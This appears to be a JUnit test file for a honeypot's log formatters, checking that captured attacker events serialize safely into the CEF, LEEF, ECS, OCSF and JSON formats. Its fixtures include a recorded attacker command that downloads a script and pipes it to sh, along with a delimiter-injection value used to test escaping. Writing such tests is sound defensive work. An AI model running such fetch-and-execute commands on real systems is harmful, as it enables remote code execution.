package decnet.formats;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import decnet.core.DeckyName;
import decnet.core.Event;
import decnet.core.EventId;
import decnet.core.Json;
import decnet.core.Peer;
import decnet.core.WireText;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.stream.IntStream;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class EventFormatsTest {
    private static final Instant NOON = Instant.parse("2026-11-20T12:00:00.123456Z");
    private static final String HASH = "ab".repeat(32);

    private static Event event(String service, String type, Map<String, String> fields) {
        return Event.of(NOON, new DeckyName("web-07"), service, type, fields)
                .withConnection("00000000000000aa", Peer.of("203.0.113.9", 40123), Peer.of("2001:db8::7", 22))
                .withId(new EventId(0x0123456789abcdefL, 12, 3456))
                .withRecording(NOON.plusMillis(5), "edge-1");
    }

    static Stream<Event> events() {
        return Stream.of(
                event("ssh", "connect", Map.of()),
                event("ssh", "disconnect", ordered("bytes_in", "700", "bytes_out", "600", "duration_ms", "1500")),
                event(
                        "ssh",
                        "login_attempt",
                        ordered(
                                "principal",
                                "root",
                                "secret",
                                "a=b|c\\\\",
                                "secret_kind",
                                "plaintext",
                                "outcome",
                                "accepted",
                                "method",
                                "password")),
                event("telnet", "login_attempt", ordered("principal", "admin", "outcome", "rejected")),
                event(
                        "ssh",
                        "command",
                        ordered("command", "wget http://198.51.100.3/x?a=1|sh", "cwd", "/root", "user", "root")),
                event("ftp", "file_upload", ordered("name", "/srv/x.sh", "size", "123", "sha256", HASH, "via", "ftp")),
                event(
                        "http",
                        "http_request",
                        ordered(
                                "method",
                                "GET",
                                "target",
                                "/a?b=c",
                                "version",
                                "1.1",
                                "host",
                                "x:8080",
                                "user_agent",
                                "curl/8",
                                "headers",
                                "{}",
                                "status",
                                "404")),
                event(
                        "http",
                        "http_request",
                        ordered("method", "PROPFIND", "url", "http://x.example/dav/?q", "status", "405")),
                event("http", "http_request", ordered("method", "GET", "target", "/index.html")),
                event("smb", "login_seen", ordered("outcome", "accepted")),
                event("ssh", "client_hello", ordered("hassh", "ec7378c1a92f5a8dde7e8b7a1ddf33d1")),
                event(
                        "tls",
                        "client_hello",
                        ordered("sni", "shop.example", "ja3", "e7d705a3286e19ea42f587b344ee6865", "ja4", "t13")),
                event(
                        "ssh",
                        "alert",
                        ordered(
                                "signature",
                                "ET SCAN",
                                "signature_id",
                                "2001219",
                                "category",
                                "x",
                                "severity",
                                "1",
                                "alert.gid",
                                "1",
                                "alert",
                                "2")),
                event("ssh", "session_recorded", ordered("sha256", HASH, "size", "9")),
                event("dns", "dns_query", ordered("query", "wpad.example", "query_type", "A", "transport", "udp")),
                event("syslog", "log_line", ordered("message", "text")),
                event("redis", "cowrie.something.new", Map.of()),
                Event.of(NOON, new DeckyName("web-07"), "portscan", "port_scan", Map.of("scan", "syn")));
    }

    private static Map<String, String> ordered(String... pairs) {
        Map<String, String> map = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put(pairs[i], pairs[i + 1]);
        }
        return map;
    }

    private static String format(String name, Event event) {
        return EventFormats.named(name).orElseThrow().format(event);
    }

    @Test
    void everyFormatWritesWhatItAlwaysWrote() {
        StringBuilder all = new StringBuilder();
        for (String name : EventFormats.names()) {
            events().forEach(event -> all.append(format(name, event)
                            .replace("|" + EventSummary.VERSION + "|", "|VERSION|")
                            .replace("\"version\":\"" + EventSummary.VERSION + "\"", "\"version\":\"VERSION\""))
                    .append('\n'));
        }
        Golden.check("formats.txt", all.toString());
    }

    @ParameterizedTest
    @MethodSource("events")
    void cefIsOfItsGrammar(Event event) {
        CefGrammar.Message message = CefGrammar.parse(format("cef", event));

        assertThat(message.head().get(4)).isEqualTo(event.type());
        assertThat(message.extension())
                .containsEntry("start", Long.toString(event.at().toEpochMilli()));
        event.field("command").ifPresent(text -> assertThat(message.extension()).containsEntry("cs2", text));
        event.field("secret").ifPresent(text -> assertThat(message.extension()).containsEntry("cs3", text));
    }

    private static Map<String, String> leef(String line) {
        String[] head = line.split("\\|", 7);
        assertThat(head).hasSize(7);
        assertThat(head[0]).isEqualTo("LEEF:2.0");
        assertThat(head[5]).isEqualTo("^");
        Map<String, String> attributes = new LinkedHashMap<>();
        for (String attribute : head[6].split("\\^", -1)) {
            int equals = attribute.indexOf('=');
            assertThat(attribute.substring(0, equals)).matches("[A-Za-z_][A-Za-z0-9_.-]*");
            assertThat(attributes.put(attribute.substring(0, equals), attribute.substring(equals + 1)))
                    .isNull();
        }
        assertThat(attributes.get("devTime")).matches("\\d{1,16}");
        assertThat(Integer.parseInt(attributes.get("sev"))).isBetween(1, 10);
        return attributes;
    }

    @ParameterizedTest
    @MethodSource("events")
    void leefIsOfItsGrammar(Event event) {
        Map<String, String> attributes = leef(format("leef", event));

        event.fields().forEach((name, value) -> assertThat(attributes).containsEntry("x_" + name, value));
    }

    @Test
    void theDelimiterOfLeefIsEscapedInValues() {
        Map<String, String> attributes =
                leef(format("leef", event("ssh", "command", Map.of("command", "a^src=1.2.3.4"))));

        assertThat(attributes).containsEntry("x_command", "a\\x5esrc=1.2.3.4").containsEntry("src", "203.0.113.9");
        assertThat(WireText.bytes("a\\x5esrc=1.2.3.4"))
                .isEqualTo("a^src=1.2.3.4".getBytes(java.nio.charset.StandardCharsets.UTF_8));
    }

    @ParameterizedTest
    @MethodSource("events")
    void ecsIsOfItsSchema(Event event) {
        ObjectNode tree = Json.parseObject(format("ecs", event));

        JsonShape.check(
                tree,
                PublishedSchemas.ECS,
                Set.of("@timestamp", "ecs.version", "event.kind", "event.category", "event.type"));
        String category = tree.path("event").path("category").path(0).textValue();
        assertThat(PublishedSchemas.ECS_TYPES.get(category))
                .contains(tree.path("event").path("type").path(0).textValue());
        assertThat(tree.path("event").path("kind").textValue()).isIn("event", "alert");
        assertThat(tree.path("event").path("outcome").textValue()).isIn("success", "failure", "unknown");
        assertThat(tree.path("decnet").path("fields")).hasSize(event.fields().size());
    }

    @ParameterizedTest
    @MethodSource("events")
    void ocsfIsOfItsSchema(Event event) {
        ObjectNode tree = Json.parseObject(format("ocsf", event));

        PublishedSchemas.checkOcsf(tree);
        assertThat(tree.path("time").longValue()).isEqualTo(event.at().toEpochMilli());
        event.fields().forEach((name, value) -> assertThat(
                        tree.path("unmapped").path("fields." + name).textValue())
                .isEqualTo(value));
    }

    private static ObjectNode ocsf(String service, String type, String... fields) {
        return Json.parseObject(format("ocsf", event(service, type, ordered(fields))));
    }

    @Test
    void trafficOfOcsfIsSeenFromTheSource() {
        ObjectNode tree = ocsf("ssh", "disconnect", "bytes_in", "700", "bytes_out", "600");

        assertThat(tree.path("traffic").path("bytes_out").intValue())
                .as("from the attacker to the decky")
                .isEqualTo(700);
        assertThat(tree.path("traffic").path("bytes_in").intValue()).isEqualTo(600);
    }

    @Test
    void aRequestOfWhichNobodyKnowsTheAnswerIsNoHttpActivity() {
        assertThat(ocsf("http", "http_request", "target", "/a", "status", "200")
                        .path("class_uid")
                        .intValue())
                .isEqualTo(4002);
        ObjectNode unanswered = ocsf("http", "http_request", "target", "/a?b");
        assertThat(unanswered.path("class_uid").intValue()).isEqualTo(4001);
        assertThat(unanswered.path("url").path("path").textValue()).isEqualTo("/a");
        assertThat(unanswered.path("url").path("query_string").textValue()).isEqualTo("b");
    }

    @Test
    void aWholeUrlIsToldInParts() {
        ObjectNode tree = ocsf("http", "http_request", "url", "http://x.example:81/a/b?c#d", "status", "200");

        assertThat(tree.path("http_request").path("url").toString())
                .isEqualTo("{\"url_string\":\"http://x.example:81/a/b?c#d\",\"scheme\":\"http\",\"path\":\"/a/b\","
                        + "\"query_string\":\"c\",\"hostname\":\"x.example\",\"port\":81}");
    }

    @Test
    void aFileIsToldByItsNameAndByItsPath() {
        Event upload = event("ftp", "file_upload", Map.of("name", "/srv/x.sh"));

        for (String format : List.of("ecs", "ocsf")) {
            var file = Json.parseObject(format(format, upload)).path("file");
            assertThat(file.path("name").textValue()).isEqualTo("x.sh");
            assertThat(file.path("path").textValue()).isEqualTo("/srv/x.sh");
        }
        assertThat(CefGrammar.parse(format("cef", upload)).extension())
                .containsEntry("fname", "x.sh")
                .containsEntry("filePath", "/srv/x.sh");
    }

    static LongStream seeds() {
        return LongStream.range(0, 300);
    }

    private static String hostile(SplittableRandom random) {
        byte[] bytes = new byte[random.nextInt(120)];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = random.nextInt(3) > 0
                    ? (byte) "|=^\\\" \n\r\tsrc=]x,{}".charAt(random.nextInt(18))
                    : (byte) random.nextInt();
        }
        return random.nextInt(4) > 0
                ? WireText.of(bytes)
                : new String(bytes, java.nio.charset.StandardCharsets.UTF_8); // somebody did not make it wire text
    }

    @ParameterizedTest
    @MethodSource("seeds")
    void noTextOfAnAttackerBreaksOutOfItsField(long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        List<String> types = List.of(
                "login_attempt", "command", "file_upload", "http_request", "alert", "connect", "x.y", "log_line");
        List<String> names = List.of(
                "principal",
                "secret",
                "command",
                "name",
                "url",
                "target",
                "method",
                "user_agent",
                "message",
                "signature",
                "hassh",
                "cwd",
                "host",
                "other");
        Map<String, String> fields = new LinkedHashMap<>();
        names.forEach(name -> fields.put(name, hostile(random)));
        fields.put("status", random.nextBoolean() ? "200" : hostile(random));
        IntStream.range(0, 5).forEach(i -> fields.put("f." + i, hostile(random)));
        Event event =
                event("ssh", types.get(random.nextInt(types.size())), fields).withRecording(NOON, hostile(random));

        for (String name : EventFormats.names()) {
            String line = format(name, event);
            assertThat(line.chars().noneMatch(c -> JsonFormat.isControl((char) c)))
                    .as("%s: %s", name, line)
                    .isTrue();
        }
        CefGrammar.Message cef = CefGrammar.parse(format("cef", event));
        assertThat(cef.extension()).containsEntry("src", "203.0.113.9").containsEntry("dhost", "web-07");
        assertThat(cef.extension().get("cs3")).isEqualTo(EventSummary.text(fields.getOrDefault("secret", "")));
        Map<String, String> leef = leef(format("leef", event));
        assertThat(leef).containsEntry("src", "203.0.113.9").containsEntry("x_decky", "web-07");
        fields.forEach((name, value) -> assertThat(leef)
                .containsEntry("x_" + name, EventSummary.text(value).replace("^", "\\x5e")));
        JsonShape.check(Json.parseObject(format("ecs", event)), PublishedSchemas.ECS, Set.of("ecs.version"));
        PublishedSchemas.checkOcsf(Json.parseObject(format("ocsf", event)));
        Json.parseObject(format("json", event));
    }

    @Test
    void whatFormatExistsIsListed() {
        assertThat(EventFormats.names()).containsExactly("cef", "ecs", "json", "leef", "ocsf");
        assertThat(EventFormats.named("nope")).isEqualTo(Optional.empty());
        assertThat(EventFormats.named("ecs").orElseThrow().mediaType()).isEqualTo("application/json");
    }
}
